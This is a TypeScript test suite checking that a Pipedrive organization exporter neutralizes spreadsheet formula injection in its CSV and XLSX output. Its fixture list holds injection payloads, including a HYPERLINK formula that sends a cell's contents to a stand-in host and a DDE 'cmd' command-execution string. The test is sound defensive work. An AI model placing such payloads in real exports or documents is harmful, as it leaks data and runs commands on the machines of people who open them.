/**
 * Issue 8 part 7: exports are safe to open. Sandbox organizations are seeded with formula-looking text
 * in every text-bearing place an export shows — name, address and its parts, website, every custom
 * text/varchar/large-text/autocomplete/phone field, option labels (custom enum and set, industry),
 * label names, owner and user-field names, a field name used as a column header — including leading
 * whitespace, tabs, CR/LF and the full-width forms. A real export job writes them to CSV and XLSX, and
 * every cell is checked: in CSV no text cell a spreadsheet would run is left unguarded, in XLSX no cell
 * is a formula, and in both the value read back (after removing the guard) is the value in Pipedrive.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '../../shared/formula-guard.ts';
import { buildExportColumns, createExportContext, type ExportColumn } from '../../shared/export/index.ts';
import type { OrgField } from '../../shared/model.ts';
import { coerceCell, createCoerceContext, DEFAULT_COLUMN_SETTINGS } from '../../shared/values/index.ts';
import { ZipArchive } from '../../electron/engine/files/read/xlsx-zip.ts';
import { JobManager } from '../../electron/engine/jobs/core/job-manager.ts';
import { JobStore } from '../../electron/engine/jobs/core/job-store.ts';
import { exportJobDefinition, type ExportJobEnv } from '../../electron/engine/jobs/export/export-job.ts';
import {
  startSandbox,
  type RunningSandbox,
  type SandboxOrganizationInput,
} from '../../electron/engine/sandbox/index.ts';

/** Text a spreadsheet would run as a formula, written with leading junk of every kind. */
const HOSTILE = [
  '=1+1',
  '+1 (555) 0100',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  ' =1+1',
  '   +cmd',
  '\t=1+1',
  '\tplain after a tab',
  '\r=1+1',
  '\n=1+1',
  ' \t\r\n@x',
  '\u00a0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' ＝HYPERLINK("x")',
  "'=already quoted",
  "''+twice",
];

/** Independent of the guard's own pattern: would a spreadsheet take this cell for a formula? */
const RUNS_AS_FORMULA = /^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A cell is safe when it cannot run, or starts with the apostrophe that makes it text. */
function safeCsvCell(cell: string): boolean {
  return cell.startsWith("'") || !RUNS_AS_FORMULA.test(cell);
}

let sandbox: RunningSandbox;
let dir: string;
let manager: JobManager<ExportJobEnv>;
let env: ExportJobEnv;
let columns: ReadonlyArray<ExportColumn>;
let expected: Array<Array<unknown>>;
const EVIL_HEADER = '=Evil column name';

function hostile(i: number): string {
  return HOSTILE[i % HOSTILE.length] ?? '=1';
}

/** Renames users, option labels, label names and one field to formula-looking text in a saved state. */
function poison(snapshot: {
  account: {
    users: Array<{ id: number; name: string; active_flag: boolean }>;
    fields: Array<{
      key: string;
      name: string;
      custom: boolean;
      type: string;
      options: Array<{ label: string }> | null;
    }>;
  };
}): void {
  snapshot.account.users.forEach((user, i) => (user.name = hostile(i + 3)));
  let n = 0;
  for (const field of snapshot.account.fields) {
    for (const option of field.options ?? []) option.label = `${hostile(n++)} #${n}`;
  }
  const description = snapshot.account.fields.find((f) => f.custom && f.type === 'text');
  if (description) description.name = EVIL_HEADER;
}

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'orgport-formula-'));
  const persistPath = path.join(dir, 'sandbox.json');
  const first = await startSandbox({ organizations: 1, seed: 5, persistPath });
  await first.control.flush();
  await first.close();
  const snapshot = JSON.parse(await readFile(persistPath, 'utf8')) as Parameters<typeof poison>[0] & {
    organizations: unknown[];
  };
  poison(snapshot);
  snapshot.organizations = [];
  await writeFile(persistPath, JSON.stringify(snapshot));
  sandbox = await startSandbox({ persistPath, burst: 10_000, seed: 5 });

  const fields = sandbox.control.fields();
  const activeUsers = sandbox.control
    .users()
    .filter((u) => u.active_flag && !('is_deleted' in u && u.is_deleted));
  const orgs: SandboxOrganizationInput[] = HOSTILE.map((_, i) => organization(i, fields, activeUsers));
  sandbox.control.addOrganizations(orgs);

  manager = new JobManager<ExportJobEnv>(new JobStore(path.join(dir, 'jobs')));
  manager.register(exportJobDefinition<ExportJobEnv>());
  env = {
    connection: { baseUrl: sandbox.url, auth: { kind: 'token', token: 'formula-token' } },
    label: 'Sandbox',
  };
  columns = buildExportColumns(fields);
  const context = createExportContext(sandbox.control.users());
  expected = sandbox.control.organizations().map((org) => columns.map((c) => c.extract(org, context)));
});

afterAll(async () => {
  await sandbox?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

function organization(
  i: number,
  fields: ReadonlyArray<OrgField>,
  users: ReadonlyArray<{ id: number }>,
): SandboxOrganizationInput {
  const text = (k: number) => hostile(i + k);
  const optionOf = (field: OrgField | undefined, k: number) =>
    field?.options?.[(i + k) % field.options.length]?.id;
  const custom: Record<string, unknown> = {};
  for (const field of fields.filter((f) => f.custom)) {
    const k = custom ? Object.keys(custom).length : 0;
    switch (field.type) {
      case 'varchar':
      case 'varchar_auto':
      case 'text':
      case 'phone':
        custom[field.key] = text(k);
        break;
      case 'enum':
        custom[field.key] = optionOf(field, k);
        break;
      case 'set':
        custom[field.key] = [optionOf(field, k), optionOf(field, k + 1)].filter(
          (v, j, a) => a.indexOf(v) === j,
        );
        break;
      case 'user':
        custom[field.key] = users[(i + 1) % users.length]?.id;
        break;
      case 'address':
        custom[field.key] = { value: text(k), locality: text(k + 1) };
        break;
      default:
        break;
    }
  }
  const labels = fields.find((f) => f.key === 'label_ids');
  const industry = fields.find((f) => f.key === 'industry');
  return {
    name: text(0),
    owner_id: users[i % users.length]?.id ?? 1,
    label_ids: [optionOf(labels, 0) ?? 1],
    industry: optionOf(industry, 0) ?? null,
    website: text(1),
    linkedin: text(2),
    address: {
      value: text(3),
      street_number: text(4),
      route: text(5),
      locality: text(6),
      country: text(7),
      postal_code: text(8),
    },
    custom_fields: custom,
  } as SandboxOrganizationInput;
}

async function runExport(out: string, format: 'csv' | 'xlsx') {
  const run = await manager.start({
    kind: 'export',
    spec: { out, format },
    title: 'export',
    connection: 'Sandbox',
    env,
  });
  const summary = await run.done;
  expect(summary.state).toBe('done');
}

/** Headers of the columns whose exported values include formula-looking text. */
function columnsWithHostileText(): Set<string> {
  const hit = new Set<string>();
  for (const row of expected) {
    row.forEach((value, c) => {
      if (typeof value === 'string' && RUNS_AS_FORMULA.test(value)) hit.add(columns[c]?.key ?? '?');
    });
  }
  return hit;
}

describe('exports are safe to open', () => {
  it('seeds formula-looking text into every text-bearing field of the export', () => {
    const hit = columnsWithHostileText();
    const fields = sandbox.control.fields();
    const must = [
      'name',
      'owner_id',
      'label_ids',
      'industry',
      'website',
      'linkedin',
      'address',
      'address.locality',
      ...fields
        .filter(
          (f) =>
            f.custom && ['varchar', 'varchar_auto', 'text', 'phone', 'enum', 'set', 'user'].includes(f.type),
        )
        .map((f) => f.key),
    ];
    expect(must.filter((key) => !hit.has(key) && !hit.has(`${key}`))).toEqual([]);
    expect(columns.some((c) => c.header === EVIL_HEADER)).toBe(true);
  });

  it('CSV: every text cell a spreadsheet would run carries the guard, and reads back exactly', async () => {
    const out = path.join(dir, 'orgs.csv');
    await runExport(out, 'csv');
    const text = await readFile(out, 'utf8');
    const rows = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    const header = rows[0] ?? [];
    expect(header).toContain(`'${EVIL_HEADER}`);
    expect(header.filter((h) => !safeCsvCell(h))).toEqual([]);
    expect(rows).toHaveLength(expected.length + 1);
    let guarded = 0;
    rows.slice(1).forEach((row, r) => {
      columns.forEach((column, c) => {
        const cell = row[c] ?? '';
        const value = expected[r]?.[c];
        expect(safeCsvCell(cell), `row ${r + 2} ${column.header}: ${JSON.stringify(cell)}`).toBe(true);
        if (typeof value === 'string' && column.kind === 'text') {
          expect(unguardFormula(cell)).toBe(value);
          if (RUNS_AS_FORMULA.test(value) || /^'+\s*[=+\-@\t\r＝＋－＠]/.test(value)) {
            expect(cell).toBe(`'${value}`);
            guarded += 1;
          }
        }
      });
    });
    expect(guarded).toBeGreaterThan(HOSTILE.length * 10);
  });

  it('XLSX: no cell is a formula; formula-looking text is a string cell holding the value as is', async () => {
    const out = path.join(dir, 'orgs.xlsx');
    await runExport(out, 'xlsx');
    const zip = await ZipArchive.open(out);
    try {
      for (const name of zip.entries.keys()) {
        if (!name.startsWith('xl/worksheets/')) continue;
        // A formula is an <f> element; there must be none anywhere in the workbook's sheets.
        expect(await zip.text(name)).not.toMatch(/<f[\s>/]/);
      }
    } finally {
      await zip.close();
    }
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    const sheet = book.getWorksheet('Organizations');
    expect(sheet?.getRow(1).getCell(columns.findIndex((c) => c.header === EVIL_HEADER) + 1).value).toBe(
      EVIL_HEADER,
    );
    let strings = 0;
    expected.forEach((row, r) => {
      row.forEach((value, c) => {
        const cell = sheet?.getRow(r + 2).getCell(c + 1);
        expect(cell?.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell?.formula).toBeUndefined();
        if (typeof value === 'string') {
          expect(cell?.type, `row ${r + 2} ${columns[c]?.header}`).toBe(ExcelJS.ValueType.String);
          // XML parsers turn CR and CRLF in text into LF (XML 1.0 §2.11); everything else is kept.
          expect(String(cell?.value)).toBe(value.replace(/\r\n?/g, '\n'));
          if (RUNS_AS_FORMULA.test(value)) strings += 1;
        }
      });
    });
    expect(strings).toBeGreaterThan(HOSTILE.length * 10);
  });

  it('the guard covers leading whitespace, CR/LF and the full-width forms, and is its own inverse', () => {
    for (const value of [...HOSTILE, '\u2003=1', '\f=1', '\v+1', '\ufeff=1', ' \u3000 ＠x']) {
      expect(guardFormula(value), JSON.stringify(value)).toBe(`'${value}`);
      expect(unguardFormula(guardFormula(value))).toBe(value);
    }
    for (const value of ['Acme', "'90s", "O'Brien", '1+1', 'a=b', '€5', '−5 (a minus sign)', '', ' ']) {
      expect(guardFormula(value)).toBe(value);
    }
  });

  it('the import side removes exactly our guard from CSV text, and nothing from XLSX text', () => {
    const fields = sandbox.control.fields();
    const target = fields.find((f) => f.custom && f.type === 'varchar');
    if (!target) throw new Error('the sandbox has a custom varchar field');
    const read = (cell: string, source: 'csv' | 'xlsx') => {
      const ctx = createCoerceContext({ fields, users: sandbox.control.users(), source });
      return coerceCell(cell, { kind: 'field', key: target.key }, ctx, DEFAULT_COLUMN_SETTINGS);
    };
    const cases: Array<[cell: string, csv: string, xlsx: string]> = [
      ["'=1+1", '=1+1', "'=1+1"],
      ["'＝1", '＝1', "'＝1"],
      ["'  -5", '-5', "'  -5"],
      ["''=x", "'=x", "''=x"],
      ["'90s", "'90s", "'90s"],
      ["O'Brien", "O'Brien", "O'Brien"],
      ["'plain", "'plain", "'plain"],
      ['=raw', '=raw', '=raw'],
    ];
    for (const [cell, csv, xlsx] of cases) {
      expect(read(cell, 'csv'), `csv ${cell}`).toEqual({ kind: 'value', value: csv });
      expect(read(cell, 'xlsx'), `xlsx ${cell}`).toEqual({ kind: 'value', value: xlsx });
    }
  });
});
